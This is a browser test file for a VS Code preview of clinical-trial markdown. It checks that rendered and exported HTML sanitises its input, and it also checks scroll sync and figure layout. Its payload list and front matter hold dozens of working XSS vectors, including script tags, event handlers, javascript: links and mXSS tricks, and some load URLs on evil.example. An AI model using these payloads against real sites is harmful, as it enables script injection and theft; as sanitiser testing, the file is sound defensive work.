// The preview in real Chromium (playwright-core + /usr/bin/chromium, provisioned by
// scripts/setup-e2e.sh): XSS payloads rendered into the webview HTML and the exported HTML run no
// script and send no request; the webview script ignores untyped and stale messages; scroll sync
// and reveal post what the host expects; the figures' labels do not overlap.
//
// Run: npm run test:preview-browser   (mocha --no-config --timeout 120000 test/e2e-preview/*.test.mjs)
import { strict as assert } from 'node:assert';
import fs from 'node:fs';
import path from 'node:path';
import { launchChromium, loadRenderer, openPage, REPO, standaloneHtml, webviewHtml } from './harness.mjs';

/**
 * Each payload calls window.__xss(name) (a binding that records the call), fetches or loads a
 * remote URL, or both, if it ever runs. `where` says which part of the document carries it.
 */
const BODY_VECTORS = [
  ['script element', `<script>__xss('script')</script>`],
  ['script with src', `<script src="https://evil.example/x.js"></script>`],
  ['img onerror', `<img src="x" onerror="__xss('img-onerror')">`],
  ['svg onload', `<svg onload="__xss('svg-onload')"><circle r="4"/></svg>`],
  ['svg with script', `<svg><script>__xss('svg-script')</script></svg>`],
  ['svg animate href', `<svg><a><animate attributeName="href" values="javascript:__xss('svg-animate')"/><text y="20">click</text></a></svg>`],
  ['iframe javascript:', `<iframe src="javascript:__xss('iframe-js')"></iframe>`],
  ['iframe srcdoc', `<iframe srcdoc="<script>parent.__xss('srcdoc')</script>"></iframe>`],
  ['iframe remote', `<iframe src="https://evil.example/frame"></iframe>`],
  ['meta refresh', `<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">`],
  ['style url()', `<style>body{background:url(https://evil.example/style-bg)}</style>`],
  ['style @import', `<style>@import url(https://evil.example/import.css);</style>`],
  ['style attribute url()', `<div style="background-image:url(https://evil.example/inline-style)">styled</div>`],
  ['link stylesheet', `<link rel="stylesheet" href="https://evil.example/link.css">`],
  ['base href', `<base href="https://evil.example/">`],
  ['object', `<object data="https://evil.example/object"></object>`],
  ['embed', `<embed src="https://evil.example/embed">`],
  ['details ontoggle', `<details open ontoggle="__xss('ontoggle')"><summary>s</summary>d</details>`],
  ['autofocus onfocus', `<input autofocus onfocus="__xss('onfocus')">`],
  ['body onload', `<body onload="__xss('body-onload')">`],
  ['video poster', `<video poster="https://evil.example/poster.png" src="https://evil.example/v.mp4"></video>`],
  ['audio src', `<audio autoplay src="https://evil.example/a.mp3"></audio>`],
  ['form action', `<form action="https://evil.example/form"><button autofocus>go</button></form>`],
  ['math mXSS', `<math><mtext><table><mglyph><style><img src=x onerror="__xss('mxss')">`],
  ['noscript mXSS', `<noscript><p title="</noscript><img src=x onerror=__xss('noscript')>">`],
  ['template', `<template><img src=x onerror="__xss('template')"></template>`],
  ['inline raw HTML in a paragraph', `Text with <img src=x onerror="__xss('inline-img')"> inline and <a href="javascript:__xss('inline-a')">a link</a>.`],
  ['markdown javascript: link', `[click me](javascript:__xss('md-link'))`],
  ['markdown JaVaScRiPt: link with entities', `[click](JaVaScRiPt&#58;__xss('md-link-entity'))`],
  ['markdown data: link', `[data](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoJ2RhdGEnKTwvc2NyaXB0Pg==)`],
  ['markdown vbscript: link', `[vb](vbscript:msgbox(1))`],
  ['autolink javascript:', `<javascript:__xss('autolink')>`],
  ['reference link javascript:', `[ref link][r]\n\n[r]: javascript:__xss('ref-link')`],
  ['remote image', `![remote](https://evil.example/remote.png)`],
  ['protocol-relative image', `![rel](//evil.example/rel.png)`],
  ['svg data image', `![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Il9feHNzKCdzdmctZGF0YScpIi8+)`],
  ['table cell payload', `| a | b |\n|---|---|\n| <img src=x onerror="__xss('cell')"> | [x](javascript:__xss('cell-link')) |`],
  ['code span (shown, not run)', '`<script>__xss("code")</script>`'],
];

/** Payloads in the front matter: they reach the card, the tables, the SVG <title>s and messages. */
const FRONT_MATTER = `---
trial:
  title: "<script>__xss('fm-title')</script><img src=x onerror=__xss('fm-title-img')>"
  registration: "javascript:__xss('registration')"
  phase: "<svg onload=__xss('phase')>"
  design: ["<iframe src=https://evil.example/design>", randomized]
  population: "</title><script>__xss('population')</script>"
  assessed: 100
  excluded: 24
  exclusion_reasons:
    "</text></svg><script>__xss('exclusion-reason')</script>": 24
  randomized: 76
arms:
  - id: a
    label: "<img src=x onerror=__xss('arm-label')>"
    dose: "10 mg <script>__xss('dose')</script>"
    randomized: 38
  - id: b
    label: "Placebo</text><script>__xss('svg-text')</script>"
    randomized: 38
endpoints:
  - id: e
    label: "</title></svg><script>__xss('endpoint')</script>"
    type: binary
    results:
      a: { events: 20, n: 38 }
      b: { events: 9, n: 38, percent: 25 }
    comparisons:
      - arm: a
        versus: b
        measure: risk ratio
        estimate: 2.22
        ci: [1.16, 4.25]
  - id: c
    label: "<svg onload=__xss('continuous')></svg>"
    type: continuous
    scale: { min: 0, max: 10 }
    results:
      a: { mean: 4.2, sd: 1.1, n: 38 }
      b: { median: 5, iqr: [3, 7], n: 38 }
adverse_events:
  - term: "<a href=javascript:__xss('ae')>click</a>"
    results:
      a: { events: 1, n: 38 }
      b: { events: 2, n: 38 }
---
`;

const XSS_DOC = `${FRONT_MATTER}
# Payloads

## Background

${BODY_VECTORS.map(([name, v]) => `<!-- ${name} -->\n\n${v}\n`).join('\n')}

## Results

20 of 38 (52.6%) responded on <img src=x onerror="__xss('result-line')"> drug.
`;

const VECTOR_COUNT = BODY_VECTORS.length + 14;

/** Static checks on the DOM the browser built: nothing active survived the sanitiser. */
async function domChecks(page, kind) {
  return page.evaluate((kind) => {
    const bad = [];
    const scripts = [...document.querySelectorAll('script')];
    if (kind === 'webview') {
      if (scripts.length !== 1 || !scripts[0].nonce || !/\/media\/preview\.js$/.test(scripts[0].src)) bad.push(`scripts: ${scripts.map((s) => s.outerHTML).join(' ')}`);
    } else if (scripts.length) bad.push(`${scripts.length} script element(s)`);
    // The webview's one stylesheet link, by nonce from the resource origin.
    const links = [...document.querySelectorAll('link')];
    if (links.length !== (kind === 'webview' ? 1 : 0) || links.some((l) => l.rel !== 'stylesheet' || !l.nonce || !/^https:\/\/file\.vscode-resource\.vscode-cdn\.test\/media\/preview\.css$/.test(l.href)))
      bad.push(`links: ${links.map((l) => l.outerHTML).join(' ')}`);
    for (const sel of ['iframe', 'object', 'embed', 'frame', 'base', 'form', 'input', 'video', 'audio', 'template', 'math', '#report svg script', '#report style', 'meta[http-equiv="refresh" i]', 'noscript']) {
      const n = document.querySelectorAll(sel).length;
      if (n) bad.push(`${n} × ${sel}`);
    }
    for (const el of document.querySelectorAll('*')) {
      for (const a of el.attributes) {
        if (/^on/i.test(a.name)) bad.push(`${el.tagName} ${a.name}`);
        // (VS Code itself sets the theme variables on <html> with a style attribute.)
        if (a.name === 'style' && !(kind === 'webview' && el === document.documentElement)) bad.push(`${el.tagName} style=`);
        if (/^\s*(javascript|vbscript|data):/i.test(a.value) && a.name !== 'src') bad.push(`${el.tagName} ${a.name}=${a.value.slice(0, 40)}`);
      }
    }
    for (const a of document.querySelectorAll('a[href]')) if (!/^(https?:|mailto:|#)/i.test(a.getAttribute('href'))) bad.push(`link ${a.getAttribute('href')}`);
    for (const img of document.querySelectorAll('img')) if (!/^data:image\/(png|jpeg|gif|webp);base64,/i.test(img.getAttribute('src') ?? '')) bad.push(`img ${img.getAttribute('src')}`);
    if (document.querySelectorAll('style').length > (kind === 'webview' ? 0 : 1)) bad.push('extra <style>');
    return bad;
  }, kind);
}

/** Click every link and mark, focus everything, hover, so a handler that survived would fire. */
async function poke(page) {
  await page.evaluate(() => {
    for (const el of document.querySelectorAll('#report a, #report mark, #report details, #report summary, #report .problem')) {
      el.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }));
      if (el instanceof HTMLAnchorElement) {
        // Follow javascript:/data: links if any were left: clicking runs them.
        el.click();
      }
    }
  });
  await page.waitForTimeout(300);
}

const CSP_META = /<meta http-equiv="Content-Security-Policy"[^>]*>/;

describe('preview in Chromium', function () {
  this.timeout(120_000);
  let renderer;
  let browser;

  before(async () => {
    renderer = loadRenderer();
    browser = await launchChromium();
  });
  after(async () => {
    await browser?.close();
  });

  it('the harness notices a payload that runs and a request that leaves (a check of the check)', async () => {
    const p = await openPage(browser, `<!DOCTYPE html><p>x</p><img src="x" onerror="__xss('probe')"><img src="https://evil.example/probe.png">`, { kind: 'standalone' });
    try {
      await p.page.waitForTimeout(200);
      assert.deepEqual(p.xss, ['probe']);
      assert.ok(p.blocked.includes('https://evil.example/probe.png'), p.blocked.join());
      assert.ok((await domChecks(p.page, 'standalone')).some((b) => /onerror/.test(b)));
    } finally {
      await p.context.close();
    }
  });

  it(`the XSS document carries ${VECTOR_COUNT} vectors (at least 20)`, () => {
    assert.ok(VECTOR_COUNT >= 20);
    const a = renderer.analyzeDocument(XSS_DOC, { fileName: 'xss.trial.md' });
    assert.equal(a.model.isTrialSummary, true);
    assert.equal(a.findings.filter((f) => f.ruleId === 'TR202').length, 0, 'the front matter parses');
    // The payloads reach the format 1.1 figures: the full flow (an exclusion reason) and a dot plot.
    const body = renderer.renderReportBody(a, { mode: 'standalone' });
    assert.ok(body.includes('<figure class="flow flow-full">') && body.includes('<figure class="dots">'));
  });

  for (const kind of ['webview', 'standalone']) {
    for (const withCsp of [true, false]) {
      it(`${kind} HTML${withCsp ? '' : ' with its CSP removed (the sanitiser alone)'}: no payload runs, no request leaves the page`, async () => {
        let html = kind === 'webview' ? webviewHtml(renderer, XSS_DOC, '/tmp/<img src=x onerror=__xss(1)>.trial.md') : standaloneHtml(renderer, XSS_DOC, '/tmp/xss.trial.md');
        if (!withCsp) {
          assert.match(html, CSP_META);
          html = html.replace(CSP_META, '');
        }
        const p = await openPage(browser, html, { kind });
        try {
          await poke(p.page);
          assert.deepEqual(p.xss, [], 'no payload ran');
          assert.deepEqual(p.dialogs, [], 'no dialog opened');
          assert.deepEqual(p.blocked, [], 'no request left the page');
          assert.equal(p.page.url().replace(/#finding-\d+$/, ''), p.url, 'no navigation (in-page #finding links only)');
          assert.deepEqual(await domChecks(p.page, kind), []);
          assert.deepEqual(p.consoleErrors.filter((e) => !/Content Security Policy/.test(e)), [], 'no script errors');
          // The report itself is there.
          const text = await p.page.textContent('#report');
          assert.ok(text.includes("<script>__xss('fm-title')</script>"), 'the title is shown as text');
          assert.ok(text.includes('Payloads'));
          if (kind === 'webview') {
            const posted = await p.posted();
            assert.deepEqual(posted.map((m) => m.type), ['ready'], 'the preview script ran and posted ready');
          }
        } finally {
          await p.context.close();
        }
      });
    }
  }

  it('webview: an update message carrying the payloads inserts them inert', async () => {
    const p = await openPage(browser, webviewHtml(renderer, '---\ntrial: { title: t }\n---\n\n# x\n', 'a.trial.md', 1), { kind: 'webview' });
    try {
      const body = renderer.renderReportBody(renderer.analyzeDocument(XSS_DOC, { fileName: 'xss.trial.md' }), { mode: 'webview', version: 2 });
      await p.page.evaluate((html) => window.postMessage({ type: 'update', html, version: 2 }, '*'), body);
      await p.page.waitForFunction(() => document.body.dataset.version === '2');
      await poke(p.page);
      assert.deepEqual(p.xss, []);
      assert.deepEqual(p.blocked, []);
      assert.deepEqual(await domChecks(p.page, 'webview'), []);
    } finally {
      await p.context.close();
    }
  });

  it('webview: ignores messages of an unknown type, with extra keys, or for an older version', async () => {
    const p = await openPage(browser, webviewHtml(renderer, '---\ntrial: { title: t }\n---\n\n# Original\n', 'a.trial.md', 5), { kind: 'webview' });
    try {
      const evil = `<img src=x onerror="__xss('message')">Replaced`;
      await p.page.evaluate((evil) => {
        window.postMessage({ type: 'html', html: evil, version: 9 }, '*');
        window.postMessage({ type: 'update', html: evil, version: 9, script: 'x' }, '*');
        window.postMessage({ type: 'update', html: evil, version: 4 }, '*');
        window.postMessage({ type: 'update', html: evil }, '*');
        window.postMessage('update', '*');
      }, evil);
      await p.page.waitForTimeout(300);
      assert.equal(await p.page.textContent('#report h1'), 't');
      assert.ok((await p.page.textContent('#report')).includes('Original'));
      assert.equal(await p.page.evaluate(() => document.body.dataset.version), '5');
      assert.deepEqual(p.xss, []);
    } finally {
      await p.context.close();
    }
  });

  describe('the bundled examples', () => {
    for (const name of ['il2-lupus-news', 'vitamin-d-care-homes', 'knee-exercise-continuous']) {
      for (const theme of ['light', 'dark', 'high-contrast']) {
        it(`${name} (${theme}): loads nothing remote, and no two figure labels overlap at 1280×800 or 640 wide`, async () => {
          const file = path.join(REPO, 'examples', `${name}.trial.md`);
          const html = webviewHtml(renderer, fs.readFileSync(file, 'utf8'), file);
          for (const width of [1280, 640]) {
            const p = await openPage(browser, html, { kind: 'webview', theme, viewport: { width, height: 800 } });
            try {
              assert.deepEqual(p.blocked, []);
              assert.deepEqual(p.consoleErrors, []);
              const overlaps = await p.page.evaluate(() => {
                const out = [];
                for (const svg of document.querySelectorAll('svg')) {
                  const boxes = [...svg.querySelectorAll('text')].map((t) => ({ t: t.textContent, r: t.getBoundingClientRect() }));
                  for (let i = 0; i < boxes.length; i++)
                    for (let j = i + 1; j < boxes.length; j++) {
                      const a = boxes[i].r;
                      const b = boxes[j].r;
                      if (Math.min(a.right, b.right) - Math.max(a.left, b.left) > 0.5 && Math.min(a.bottom, b.bottom) - Math.max(a.top, b.top) > 0.5) out.push(`${boxes[i].t} / ${boxes[j].t}`);
                    }
                }
                return out;
              });
              assert.deepEqual(overlaps, []);
              const overflow = await p.page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
              assert.ok(overflow <= 0, `no horizontal scrolling (${overflow} px too wide)`);
              // The body text and the figures follow the theme: text is not the page colour.
              const colors = await p.page.evaluate(() => [getComputedStyle(document.body).color, getComputedStyle(document.body).backgroundColor]);
              assert.notEqual(colors[0], colors[1]);
            } finally {
              await p.context.close();
            }
          }
        });
      }
    }
  });

  describe('format 1.1 sections (participant flow, continuous and time-to-event results)', () => {
    const file = path.join(REPO, 'examples', 'knee-exercise-continuous.trial.md');
    for (const theme of ['light', 'dark', 'high-contrast']) {
      it(`knee example (${theme}): the full flow and the dot plots render under the CSP, every text inside its box, drawn in visible colours`, async () => {
        const html = webviewHtml(renderer, fs.readFileSync(file, 'utf8'), file);
        for (const width of [1280, 640]) {
          const p = await openPage(browser, html, { kind: 'webview', theme, viewport: { width, height: 800 } });
          try {
            assert.deepEqual(p.consoleErrors, [], 'no console error (a CSP violation is one)');
            assert.deepEqual(p.blocked, []);
            assert.deepEqual(await domChecks(p.page, 'webview'), []);
            const r = await p.page.evaluate(() => {
              const visible = (el) => {
                const cs = getComputedStyle(el);
                return cs.fill !== 'none' && cs.visibility !== 'hidden' && cs.display !== 'none' && Number(cs.opacity) > 0;
              };
              const flow = document.querySelector('figure.flow.flow-full svg');
              const escapes = [];
              for (const g of flow ? flow.querySelectorAll('g.flow-box') : []) {
                const box = g.querySelector('rect').getBoundingClientRect();
                for (const t of g.querySelectorAll('text')) {
                  const b = t.getBoundingClientRect();
                  if (b.left < box.left || b.right > box.right || b.top < box.top || b.bottom > box.bottom) escapes.push(t.textContent);
                }
              }
              const dots = [...document.querySelectorAll('figure.dots svg')];
              const marks = dots.flatMap((svg) => [...svg.querySelectorAll('.dot')]);
              const bg = getComputedStyle(document.body).backgroundColor;
              return {
                flowBoxes: flow ? flow.querySelectorAll('g.flow-box').length : 0,
                flowText: flow ? [...flow.querySelectorAll('text')].map((t) => t.textContent) : [],
                escapes,
                dots: dots.length,
                hiddenDots: marks.filter((m) => !visible(m) || getComputedStyle(m).fill === bg).length,
                dotCount: marks.length,
                invisibleText: [...document.querySelectorAll('figure.flow text, figure.dots text')].filter((t) => getComputedStyle(t).fill === bg).map((t) => t.textContent),
                tte: document.querySelectorAll('table.time-to-event').length,
                continuous: document.querySelectorAll('table.continuous').length,
                rate: [...document.querySelectorAll('table.time-to-event')].at(-1)?.querySelector('tbody tr:last-child td:last-child')?.textContent,
              };
            });
            assert.equal(r.flowBoxes, 9, 'assessed, excluded, randomised, and three boxes per arm');
            assert.ok(r.flowText.includes('• did not meet inclusion criteria: n = 151'));
            assert.ok(r.flowText.includes('Received allocated intervention n = 94'));
            assert.deepEqual(r.escapes, [], 'no text outside its box');
            assert.equal(r.dots, 3, 'one dot plot per continuous endpoint');
            assert.equal(r.dotCount, 6);
            assert.equal(r.hiddenDots, 0);
            assert.deepEqual(r.invisibleText, []);
            assert.equal(r.continuous, 3);
            assert.equal(r.tte, 2);
            assert.equal(r.rate, '51.9 per 100 person-years (11 events, 21.2 person-years)');
          } finally {
            await p.context.close();
          }
        }
      });
    }
  });

  it('a four-arm 1.1 flow with long labels and reasons: every text inside its box in real fonts', async () => {
    const arm = (i) => `  - id: a${i}\n    label: Arm ${i} with a long label of 2.0 million IU every other day\n    randomized: 250\n    received: 248\n    discontinued: 12\n    lost: 9\n    completed: 229\n    analysed: 241\n`;
    const doc = `---\ntrial:\n  title: Four arms\n  assessed: 1500\n  excluded: 500\n  exclusion_reasons:\n    did not meet the inclusion criteria at the screening visit or at the baseline visit: 400\n    declined: 100\n  randomized: 1000\narms:\n${[1, 2, 3, 4].map(arm).join('')}---\n\n# Four arms\n`;
    const p = await openPage(browser, webviewHtml(renderer, doc, 'four.trial.md'), { kind: 'webview', theme: 'light', viewport: { width: 640, height: 800 } });
    try {
      assert.deepEqual(p.consoleErrors, []);
      const r = await p.page.evaluate(() => {
        const flow = document.querySelector('figure.flow.flow-full svg');
        const escapes = [];
        for (const g of flow.querySelectorAll('g.flow-box')) {
          const box = g.querySelector('rect').getBoundingClientRect();
          for (const t of g.querySelectorAll('text')) {
            const b = t.getBoundingClientRect();
            if (b.left < box.left || b.right > box.right || b.top < box.top || b.bottom > box.bottom) escapes.push(t.textContent);
          }
        }
        return { boxes: flow.querySelectorAll('g.flow-box').length, escapes };
      });
      assert.equal(r.boxes, 3 + 4 * 3);
      assert.deepEqual(r.escapes, []);
    } finally {
      await p.context.close();
    }
  });

  describe('webview behaviour', () => {
    const file = path.join(REPO, 'examples', 'vitamin-d-care-homes.trial.md');
    // The consistent example has no problem to click; the news example has four.
    const flagged = path.join(REPO, 'examples', 'il2-lupus-news.trial.md');

    it('clicking a problem posts a reveal of its line, with the version', async () => {
      const p = await openPage(browser, webviewHtml(renderer, fs.readFileSync(flagged, 'utf8'), flagged, 3), { kind: 'webview' });
      try {
        const line = Number(await p.page.getAttribute('#report .problem', 'data-line'));
        await p.page.click('#report .problem');
        const posted = await p.posted();
        assert.deepEqual(posted.find((m) => m.type === 'reveal'), { type: 'reveal', line, column: Number(await p.page.getAttribute('#report .problem', 'data-column')), version: 3 });
      } finally {
        await p.context.close();
      }
    });

    it('scroll sync: scrollTo puts that line at the top without echoing it; a user scroll reports its line', async () => {
      const p = await openPage(browser, webviewHtml(renderer, fs.readFileSync(file, 'utf8'), file, 3), { kind: 'webview', viewport: { width: 640, height: 400 } });
      try {
        const target = await p.page.evaluate(() => {
          const el = [...document.querySelectorAll('#report .markdown-body h2.code-line')].find((h) => h.textContent === 'Methods');
          return Number(el.getAttribute('data-line'));
        });
        await p.page.evaluate((line) => window.postMessage({ type: 'scrollTo', line }, '*'), target);
        await p.page.waitForTimeout(300);
        const top = await p.page.evaluate(() => {
          const el = [...document.querySelectorAll('#report .markdown-body h2.code-line')].find((h) => h.textContent === 'Methods');
          return el.getBoundingClientRect().top;
        });
        assert.ok(Math.abs(top) <= 1, `the Methods heading is at the top (${top})`);
        assert.deepEqual((await p.posted()).filter((m) => m.type === 'scrolled'), [], 'a scroll the host asked for is not reported back');
        // The user scrolls up a little: the preview reports the line now at its top.
        await p.page.mouse.move(300, 400);
        await p.page.mouse.wheel(0, -120);
        await p.page.waitForTimeout(300);
        const scrolled = (await p.posted()).filter((m) => m.type === 'scrolled');
        assert.ok(scrolled.length >= 1, 'a user scroll is reported');
        const last = scrolled[scrolled.length - 1];
        assert.equal(last.version, 3);
        assert.ok(last.line < target && last.line > target - 20, `reported line ${last.line} is a little above ${target}`);
      } finally {
        await p.context.close();
      }
    });

    it('an update keeps the same source line at the top', async () => {
      const text = fs.readFileSync(file, 'utf8');
      const p = await openPage(browser, webviewHtml(renderer, text, file, 3), { kind: 'webview', viewport: { width: 640, height: 800 } });
      try {
        const heading = () => p.page.evaluate(() => document.querySelector('#report article.endpoint').getBoundingClientRect().top);
        const line = await p.page.evaluate(() => Number(document.querySelector('#report article.endpoint').getAttribute('data-line')));
        await p.page.evaluate((line) => window.postMessage({ type: 'scrollTo', line }, '*'), line);
        await p.page.waitForTimeout(200);
        assert.ok(Math.abs(await heading()) <= 1, `scrolled to the endpoint (${await heading()})`);
        // An edit lengthens a paragraph above (same lines, taller block): the heading must stay
        // where it was on screen rather than be pushed down by the new text.
        const edited = text.replace('population: Adults aged 65 or over living in care homes', `population: Adults aged 65 or over living in care homes ${'and more words '.repeat(60)}`);
        assert.notEqual(edited, text);
        const body = renderer.renderReportBody(renderer.analyzeDocument(edited, { fileName: file }), { mode: 'webview', version: 4 });
        await p.page.evaluate((html) => window.postMessage({ type: 'update', html, version: 4 }, '*'), body);
        await p.page.waitForFunction(() => document.body.dataset.version === '4');
        await p.page.waitForTimeout(200);
        assert.ok(Math.abs(await heading()) <= 2, `the endpoint stayed at the top (${await heading()})`);
      } finally {
        await p.context.close();
      }
    });
  });
});
